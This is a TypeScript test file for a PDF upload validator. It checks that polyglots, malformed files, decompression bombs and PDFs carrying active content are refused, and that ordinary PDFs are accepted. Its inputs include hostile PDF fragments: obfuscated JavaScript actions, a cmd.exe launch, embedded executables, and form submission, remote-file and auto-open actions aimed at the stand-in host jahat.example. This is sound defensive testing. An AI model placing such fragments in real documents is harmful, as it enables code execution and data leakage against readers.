import { readFileSync, readdirSync } from 'node:fs'
import { deflateSync } from 'node:zlib'
import { expect, test } from 'vitest'
import { inspectFile } from '../../../src/server/files/inspect.ts'
import { pdf, pdfWithHtml, pdfWithHtmlBehind, pdfWithZip } from '../../support/files.ts'
import { refusalOf, upload } from '../../support/uploads.ts'

test.each([
  ['PDF + HTML', pdfWithHtml],
  ['PDF + HTML behind its end', pdfWithHtmlBehind],
  [
    'a long PDF + HTML behind its end',
    () => pdf({ text: 'isi '.repeat(1000), after: '<script>alert(1)</script>' }),
  ],
  ['PDF + ZIP', pdfWithZip],
])('polyglot: %s is refused', async (_, make) => {
  expect(await refusalOf(inspectFile(await upload(make(), 'surat.pdf'), ['pdf']))).toMatchObject({
    reason: 'berbahaya',
    status: 422,
  })
})

test.each([
  ['something before %PDF-', () => Buffer.concat([Buffer.from('\n'), pdf()]), 'jenis-tidak-sesuai'],
  ['no %%EOF', () => Buffer.from(pdf().toString('latin1').replace('%%EOF', '%%EOT'), 'latin1'), 'rusak'],
  ['%%EOF far from the end', () => pdf({ after: ' '.repeat(1100) }), 'rusak'],
  [
    'no startxref',
    () => Buffer.from(pdf().toString('latin1').replace('startxref', 'startxxxx'), 'latin1'),
    'rusak',
  ],
  ['no object at all', () => Buffer.from('%PDF-1.7\nstartxref\n0\n%%EOF\n'), 'rusak'],
])('%s is not a PDF', async (_, make, reason) => {
  expect(await refusalOf(inspectFile(await upload(make(), 'surat.pdf'), ['pdf']))).toMatchObject({ reason })
})

test.each([
  ['padding behind the end', () => pdf({ after: '\0'.repeat(500) })],
  ['Windows line ends', () => pdf({ after: '\r\n\r\n' })],
  ['words of markup deep inside', () => pdf({ text: `${'isi '.repeat(1000)}<table>` })],
  ['an appended change', () => Buffer.concat([pdf(), pdf().subarray(9)])],
])('an honest PDF with %s is taken', async (_, make) => {
  expect(await inspectFile(await upload(make(), 'surat.pdf'), ['pdf'])).toMatchObject({ type: 'pdf' })
})

const honest = new URL('./honest/', import.meta.url)
test.each(readdirSync(honest))('what programs really write is taken: %s', async (name) => {
  const content = readFileSync(new URL(name, honest))
  expect(await inspectFile(await upload(content, name), ['pdf'])).toMatchObject({ type: 'pdf' })
})

const object = (inside: string, number = 90) => `${number} 0 obj\n${inside}\nendobj\n`
const stream = (dictionary: string, content: Buffer | string, number = 91) =>
  object(
    `<< ${dictionary} /Length ${content.length} >>\nstream\n${content.toString('latin1')}\nendstream`,
    number,
  )
/** Objects packed into a stream, as every program of today does. */
const packed = (inside: string, { type = '/Type /ObjStm', at = 0, filter = '/Filter /FlateDecode' } = {}) => {
  const header = `70 ${at} `
  const content = Buffer.from(header + inside, 'latin1')
  return stream(
    `${type} /N 1 /First ${header.length} ${filter}`,
    filter === '' ? content : deflateSync(content),
  )
}
const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'

test.each([
  ['a script', object(SCRIPT)],
  ['a script with hidden letters', object('<< /S /J#61vaScript /#4a#53 (x) >>')],
  ['the name of an action elsewhere', object('<< /S 92 0 R /F (x.exe) >>') + object('/Launch', 92)],
  ['a program', object('<< /Type /Action /S /Launch /F (cmd.exe) >>')],
  ['another file', object('<< /A << /S /GoToR /F (\\\\\\\\jahat.example\\\\x) /D [0 /Fit] >> >>')],
  ['a file inside', object('<< /S /GoToE /T << /R /C >> >>')],
  ['a form that is sent', object('<</S/SubmitForm/F<</FS/URL/F(http://jahat.example)>>>>')],
  ['imported data', object('<< /S /ImportData /F (x.fdf) >>')],
  ['attachments', object('<< /Names << /EmbeddedFiles << /Names [(a.exe) 93 0 R] >> >> >>')],
  ['an attached file', object('<< /Type /Filespec /F (a.exe) /EF << /F 93 0 R >> >>')],
  ['the bytes of an attached file', stream('/Type /EmbeddedFile', 'MZ')],
  ['multimedia', object('<< /Type /Annot /Subtype /RichMedia >>')],
  ['a form with a program of its own', object('<< /AcroForm << /XFA 94 0 R >> >>')],
  ['bytes of elsewhere', stream('/F (\\\\\\\\jahat.example\\\\x)', '')],
  ['an address that opens itself', object('<< /OpenAction << /S /URI /URI (http://jahat.example) >> >>')],
  [
    'an address that opens itself, elsewhere',
    object('<< /OpenAction 95 0 R >>') + object('<< /S /URI >>', 95),
  ],
  [
    'an address after a page',
    object('<< /OpenAction << /S /GoTo /D [1 0 R /Fit] /Next [<< /S /URI /URI (x) >>] >> >>'),
  ],
  [
    'an address when a page is shown',
    object('<< /Type /Page /AA << /O 95 0 R >> >>') + object('<< /S /URI >>', 95),
  ],
  ['a packed script', packed(SCRIPT)],
  ['a packed script of no type', packed(SCRIPT, { type: '' })],
  ['a packed script, not compressed', packed(SCRIPT, { filter: '' })],
  ['a packed script inside a text', packed(`(${SCRIPT})`, { at: 1 })],
  [
    'objects packed in a way that nobody packs them',
    packed(SCRIPT, { filter: '/Filter [/FlateDecode /ASCIIHexDecode]' }),
  ],
  ['a script in the bytes of a picture', stream('/Subtype /Image', object(SCRIPT, 96))],
  ['a script behind a comment', `97 %x\n0 %y\nobj%z\n${SCRIPT} endobj\n`],
  ['a script in a trailer', `trailer\n<< /Root << /OpenAction ${SCRIPT} >> >>\n`],
  ['a script whose dictionary is not ended', `98 0 obj << /A << /S /JavaScript endobj\n`],
  ['a packed script behind a text, not compressed', packed(`(endstream) ${SCRIPT}`, { at: 12, filter: '' })],
  [
    'a packed script, counted past a comment',
    stream('/N 1 /First 8 /Filter /FlateDecode', deflateSync(`%9\n70 0 ${SCRIPT}`)),
  ],
  [
    'an address that opens itself, in an object with a long number',
    object('<< /OpenAction 95 0 R >>') + '95 000000 obj << /S /URI >> endobj\n',
  ],
  [
    'an address that opens itself, in an object whose number cannot be told',
    object('<< /OpenAction 95 0 R >>') + '95 %x\n0 obj << /S /URI >> endobj\n',
  ],
  ['nesting without end', object('['.repeat(5000))],
  ['starts in starts', '1 0 obj ( '.repeat(60_000)],
])('a PDF that does something by itself: %s is refused', async (_, inside) => {
  expect(
    await refusalOf(inspectFile(await upload(pdf({ before: inside }), 'surat.pdf'), ['pdf'])),
  ).toMatchObject({
    reason: 'berbahaya',
    status: 422,
    message: expect.stringMatching(/[Cc]etak ulang ke PDF, lalu unggah/),
  })
})

const many = (times: number, inside: string) => inside.repeat(times)
test.each([
  ['starts inside of comments', object('<< >>') + many(400_000, 'obj%')],
  ['starts behind values before comments', object('<< >>') + many(300_000, 'obj 1%')],
  [
    'packed objects without end',
    stream('/N 1 /First 1500000 /Filter /FlateDecode', deflateSync(many(300_000, '70 0 '))),
  ],
  ['many streams of packed objects', many(5_000, packed('<< >>'))],
  ['a list without end', object(`[${many(400_000, '/A ')}]`)],
])('work is bounded: %s', async (_, inside) => {
  const refusal = refusalOf(inspectFile(await upload(pdf({ before: inside }), 'surat.pdf'), ['pdf']))
  expect(await refusal).toMatchObject({ reason: 'berbahaya' })
})

test.each([
  ['actions', '1 0 obj << /OpenAction 1 0 R /Next 1 0 R /S 1 0 R >>\n'],
  ['triggers', '1 0 obj << /AA 1 0 R /A 1 0 R >>\n'],
])('work is bounded: objects of one number whose %s name each other', async (_, one) => {
  const content = pdf({ before: many(20_000, one) })
  expect(await inspectFile(await upload(content, 'surat.pdf'), ['pdf'])).toMatchObject({ type: 'pdf' })
})

test.each([
  ['a text that does not end', '', '\n1 0 obj << /A ('],
  ['a position behind the end', packed('<< >>', { at: 9_999_999 }), ''],
])('a broken file is no fault of ours: %s', async (_, before, after) => {
  const content = pdf({ before, after })
  expect(await inspectFile(await upload(content, 'surat.pdf'), ['pdf'])).toMatchObject({ type: 'pdf' })
})

test('a bomb of packed objects is not unpacked', async () => {
  const bomb = packed(' '.repeat(40 * 1024 * 1024))
  expect(bomb.length).toBeLessThan(100_000)
  expect(
    await refusalOf(inspectFile(await upload(pdf({ before: bomb }), 'surat.pdf'), ['pdf'])),
  ).toMatchObject({
    reason: 'berbahaya',
  })
})

test('what lies packed behind a password is not taken unseen', async () => {
  const content = pdf({ before: packed('<< >>') + 'trailer << /Encrypt 5 0 R >>\n' })
  expect(await refusalOf(inspectFile(await upload(content, 'surat.pdf'), ['pdf']))).toMatchObject({
    reason: 'terkunci',
  })
})

test.each([
  ['a title of markup', object('<< /Title (<title>HTML</title> <script>) >>')],
  ['a title of commands', object('<< /Title (HTML/CSS/JavaScript, /JS dan /Launch \\( obj) >>')],
  ['a title in UTF-16', object('<< /Title <FEFF002F004A0053> /Subject (/JS) >>')],
  ['a page to begin with', object('<< /OpenAction [1 0 R /XYZ null null 0] >>')],
  [
    'a page to begin with, elsewhere',
    object('<< /OpenAction 95 0 R >>') + object('<< /S /GoTo /D [1 0 R /Fit] >>', 95),
  ],
  ['links', object('<< /Subtype /Link /A << /S /URI /URI (https://politeknik.example) >> >>')],
  ['a form without commands', object('<< /AcroForm << /Fields [99 0 R] /DA (/Helv 0 Tf) >> >>')],
  ['printing', object('<< /OpenAction << /S /Named /N /Print >> >>')],
  ['packed objects', packed('<< /S /GoTo /Title (<</S/JavaScript>>) >>')],
  ['metadata', stream('/Type /Metadata /Subtype /XML', '<dc:title>/JavaScript /JS</dc:title>')],
])('an honest PDF with %s is taken', async (_, inside) => {
  expect(await inspectFile(await upload(pdf({ before: inside }), 'surat.pdf'), ['pdf'])).toMatchObject({
    type: 'pdf',
  })
})
